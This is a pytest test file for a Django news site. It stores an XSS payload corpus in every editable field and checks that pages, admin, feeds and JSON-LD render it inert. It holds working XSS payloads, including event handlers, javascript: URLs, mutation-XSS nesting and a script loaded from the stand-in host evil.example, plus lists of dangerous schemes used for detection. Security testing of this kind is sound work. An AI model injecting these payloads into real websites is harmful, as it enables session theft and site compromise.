"""Hostile text: an XSS corpus in every field a person can type into, stored safely and
rendered inert on public pages, in the admin, in feeds and inside JSON-LD.

Each payload carries a marker ("xss" plus a number). A page passes when, parsed as a browser
would, the marker appears only as text: never in a script, a style, an event handler, a
script-capable URL, or inside an SVG, MathML, frame or object element the payload made.
"""

import io
import json
import re
from html.parser import HTMLParser
from xml.etree import ElementTree

import pytest
from django.core.files.base import ContentFile
from django.test import Client
from PIL import Image as PILImage

from articles.images import prepare_upload
from articles.models import Correction, Image, InternalNote
from tests.factories import make_article, make_author, make_section, make_source, make_user

TEMPLATES = [
    "<script>alert('{m}')</script>",
    "<ScRiPt src=//evil.example/{m}.js></sCrIpT>",
    "<img src=x onerror=alert('{m}')>",
    '<img src="x" onerror="alert(\'{m}\')" alt="{m}">',
    "<svg onload=alert('{m}')><circle r=1 /></svg>",
    "<svg><script>alert('{m}')</script></svg>",
    "<svg><a xlink:href=\"javascript:alert('{m}')\"><text>{m}</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('{m}')></style></mglyph></table></mtext></math>",  # noqa: E501
    "<math href=\"javascript:alert('{m}')\">{m}</math>",
    "<a href=\"javascript:alert('{m}')\">click {m}</a>",
    "<a href=\"JaVaScRiPt&colon;alert('{m}')\">{m}</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert('{m}')\">{m}</a>",
    "<a href=\"java\tscript:alert('{m}')\">{m}</a>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">{m}</a>',
    "<a href=\"vbscript:msgbox('{m}')\">{m}</a>",
    "<iframe src=\"javascript:alert('{m}')\"></iframe>",
    "<object data=\"data:text/html,<script>alert('{m}')</script>\"></object>",
    "<embed src=\"javascript:alert('{m}')\">",
    "<form action=\"javascript:alert('{m}')\"><button>{m}</button></form>",
    "<body onload=alert('{m}')>",
    "<details open ontoggle=alert('{m}')>",
    "<div style=\"background:url(javascript:alert('{m}'))\">{m}</div>",
    "<style>@import 'javascript:alert(\"{m}\")';</style>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('{m}')>\">",
    "<!--<img src=\"--><img src=x onerror=alert('{m}')//\">",
    "&lt;script&gt;alert('{m}')&lt;/script&gt;",
    "&#60;img src=x onerror=alert('{m}')&#62;",
    "\"><script>alert('{m}')</script>",
    "'><img src=x onerror=alert('{m}')>",
    "</script><script>alert('{m}')</script>",
    "</title><script>alert('{m}')</script>",
    "</textarea><script>alert('{m}')</script>",
    "{{{{ '{m}' }}}} {{% debug %}}",
    "<base href=\"javascript:alert('{m}')//\">",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'{m}\')">',
    '<a href="https://ok.example/" onclick="alert(\'{m}\')">{m}</a>',
    "<p>Safe <strong>bold</strong> {m}</p>",
]


def payload(field, n=None):
    """The whole corpus for one field, each template with its own marker."""
    return " ".join(
        t.format(m=f"xss{field}{i}") for i, t in enumerate(TEMPLATES) if n is None or i == n
    )


def short(field, limit):
    """As much of the corpus as fits a length-limited field, cut between payloads."""
    out = ""
    for i, template in enumerate(TEMPLATES):
        piece = template.format(m=f"xss{field}{i}")
        if len(out) + len(piece) + 1 > limit:
            break
        out = f"{out} {piece}".strip()
    return out


URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "xlink:href",
    "data",
    "poster",
    "srcset",
    "background",
    "cite",
    "content",
}
DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:text", "data:application")
PAYLOAD_ONLY_ELEMENTS = {
    "svg",
    "math",
    "iframe",
    "object",
    "embed",
    "base",
    "form",
    "style",
    "noscript",
    "details",
    "mglyph",
    "mtext",
    "body",
    "textarea",
    "button",
}

# Text inside these is code or re-parsed markup (mutation XSS), not words on a page.
TEXT_HOSTILE_ELEMENTS = {
    "style",
    "noscript",
    "svg",
    "math",
    "iframe",
    "object",
    "embed",
    "mglyph",
    "mtext",
    "template",
    "xmp",
    "noembed",
    "noframes",
}


class Inertness(HTMLParser):
    """Collects every way a marker could execute or act."""

    def __init__(self, marker_re):
        super().__init__(convert_charrefs=True)
        self.marker_re = marker_re
        self.stack = []
        self.problems = []
        self.json_blocks = []
        self._script = None

    def handle_starttag(self, tag, attrs):
        self.stack.append(tag)
        attrs = [(name, value or "") for name, value in attrs]
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"event handler <{tag} {name}={value[:60]!r}>")
            squeezed = re.sub(r"[\s\x00-\x1f]", "", value).lower()
            if name in URL_ATTRIBUTES and squeezed.startswith(DANGEROUS_SCHEMES):
                self.problems.append(f"script URL <{tag} {name}={value[:60]!r}>")
            if name == "style" and self.marker_re.search(value):
                self.problems.append(f"style attribute with a marker <{tag}>")
            if name == "http-equiv" and value.lower() == "refresh":
                self.problems.append("meta refresh")
        if tag in PAYLOAD_ONLY_ELEMENTS and any(self.marker_re.search(v) for _, v in attrs):
            self.problems.append(f"payload element <{tag}>")
        if tag == "script":
            self._script = (dict(attrs), [])

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)
        self.handle_endtag(tag)

    def handle_endtag(self, tag):
        if tag == "script" and self._script is not None:
            attrs, parts = self._script
            text = "".join(parts)
            if attrs.get("type") in {"application/ld+json", "application/json"}:
                self.json_blocks.append(text)
            elif self.marker_re.search(text) or self.marker_re.search(attrs.get("src", "")):
                self.problems.append(f"marker inside an executable script: {text[:80]!r}")
            self._script = None
        if tag in self.stack:
            while self.stack and self.stack.pop() != tag:
                pass

    def handle_data(self, data):
        if self._script is not None:
            self._script[1].append(data)
            return
        if self.marker_re.search(data):
            inside = set(self.stack) & TEXT_HOSTILE_ELEMENTS
            if inside:
                self.problems.append(f"marker inside <{'/'.join(sorted(inside))}>: {data[:60]!r}")


MARKER = re.compile(r"xss[a-z]+\d+")


def assert_inert(html, where):
    parser = Inertness(MARKER)
    parser.feed(html)
    parser.close()
    assert parser.problems == [], f"{where}: {parser.problems[:5]}"
    for block in parser.json_blocks:
        assert "</script" not in block.lower(), where
        assert "<!--" not in block, where
        json.loads(block)  # still valid JSON, not cut short by a payload
    return parser


def tiny_jpeg():
    buffer = io.BytesIO()
    PILImage.new("RGB", (64, 48), (120, 30, 30)).save(buffer, "JPEG")
    return ContentFile(buffer.getvalue(), name="hostile.jpg")


@pytest.fixture
def hostile(db):
    section = make_section("World", slug="world")
    author = make_author(
        short("authorname", 200),
        slug="hostile-author",
        bio=payload("bio"),
        job_title=short("jobtitle", 200),
        affiliation=short("affiliation", 200),
    )
    source = make_source(
        short("sourcename", 200), slug="hostile-source", description=payload("sourcedesc")
    )
    image = Image(
        alt_text=short("alt", 300),
        caption=short("caption", 500),
        credit=short("credit", 200),
        copyright=short("copyright", 200),
    )
    image.file = prepare_upload(tiny_jpeg())
    image.save()
    article = make_article(
        headline=short("headline", 200),
        kicker=short("kicker", 60),
        dek=short("dek", 600),
        body="<p>Safe <strong>bold</strong> words.</p>" + payload("body"),
        section=section,
        authors=[author],
        sources=[source],
        tags=[short("tag", 100), "<script>alert('xsstagtwo1')</script>"],
        lead_image=image,
        slug="hostile-story",
    )
    article.article_sources.update(
        original_headline=short("originalheadline", 300),
        note=short("sourcenote", 500),
        original_url="https://example.com/?q=%22%3E%3Cscript%3Exssurl1%3C/script%3E",
    )
    Correction.objects.create(article=article, text=payload("correction"))
    InternalNote.objects.create(article=article, text=payload("internalnote"))
    return article


def test_the_body_is_stored_without_anything_executable(hostile):
    body = hostile.body.lower()
    for needle in [
        "<script",
        "onerror",
        "onload",
        "javascript:",
        "vbscript:",
        "<svg",
        "<math",
        "<iframe",
        "<object",
        "<embed",
        "<style",
        "<form",
        "<base",
        "<meta",
    ]:
        assert needle not in body, needle
    assert "<strong>bold</strong>" in hostile.body  # what the editor can make survives


def public_pages(article):
    return [
        "/",
        article.get_absolute_url(),
        article.section.get_absolute_url(),
        "/authors/hostile-author/",
        "/sources/hostile-source/",
        "/corrections/",
        *[f"/tags/{slug}/" for slug in article.tags.values_list("slug", flat=True)],
    ]


def test_public_pages_render_the_corpus_inert(hostile):
    client = Client()
    seen_json_ld = 0
    for path in public_pages(hostile):
        response = client.get(path)
        assert response.status_code == 200, path
        seen_json_ld += len(assert_inert(response.text, path).json_blocks)
    assert seen_json_ld >= 2  # the article and others really carried structured data
    # The payloads were shown as text, not silently dropped.
    article_page = client.get(hostile.get_absolute_url()).text
    assert "xssheadline0" in article_page
    assert "xsscorrection0" in client.get("/corrections/").text


def test_internal_notes_never_reach_public_pages(hostile):
    client = Client()
    for path in public_pages(hostile):
        assert "xssinternalnote" not in client.get(path).text, path


def test_json_ld_keeps_hostile_strings_as_data(hostile):
    response = Client().get(hostile.get_absolute_url())
    parser = assert_inert(response.text, "article")
    blocks = [json.loads(b) for b in parser.json_blocks]
    flat = json.dumps(blocks)
    assert "xssheadline0" in flat  # the headline is in the data, as a string


def test_search_query_is_echoed_inert(hostile):
    client = Client()
    for n in range(len(TEMPLATES)):
        response = client.get("/search/", {"q": payload("query", n)})
        assert response.status_code == 200
        assert_inert(response.text, f"search #{n}")


# What a feed reader renders as HTML: an item's description (RSS) and an entry's summary and
# content (Atom). Titles and the channel's own description are plain text by the specs,
# escaped once in the XML.
ATOM = "{http://www.w3.org/2005/Atom}"
HTML_FEED_ELEMENTS = {
    "description",
    "{http://purl.org/rss/1.0/modules/content/}encoded",
    f"{ATOM}summary",
    f"{ATOM}content",
}


def feed_html_parts(xml_bytes):
    root = ElementTree.fromstring(xml_bytes)  # noqa: S314 - our own feed
    entries = [*root.iter("item"), *root.iter(f"{ATOM}entry")]
    assert entries, "the feed has no entries to check"
    for entry in entries:
        for element in entry:
            if element.tag in HTML_FEED_ELEMENTS and element.text:
                yield element.tag, element.text


@pytest.mark.parametrize(
    "path",
    [
        "/feeds/latest/rss/",
        "/feeds/latest/atom/",
        "/feeds/sections/world/rss/",
        "/feeds/authors/hostile-author/atom/",
        "/feeds/tags/{tag}/rss/",
    ],
)
def test_feeds_are_well_formed_and_their_html_is_inert(hostile, path):
    path = path.format(tag=hostile.tags.order_by("pk").first().slug)
    response = Client().get(path)
    assert response.status_code == 200
    text = response.content.decode()
    assert "xssheadline0" in text
    for tag, html in feed_html_parts(response.content):
        assert_inert(html, f"{path} {tag}")


def test_admin_pages_render_the_corpus_inert(hostile):
    client = Client()
    client.force_login(make_user("Editor"))
    paths = [
        "/admin/",
        "/admin/articles/article/",
        f"/admin/articles/article/{hostile.pk}/change/",
        "/admin/articles/article/?q=xss",
        "/admin/articles/image/",
        f"/admin/articles/image/{hostile.lead_image_id}/change/",
        "/admin/authors/author/",
        f"/admin/authors/author/{hostile.bylines.first().author_id}/change/",
        "/admin/articles/source/",
        "/admin/taggit/tag/",
    ]
    for path in paths:
        response = client.get(path, follow=True)
        assert response.status_code == 200, path
        assert_inert(response.text, path)
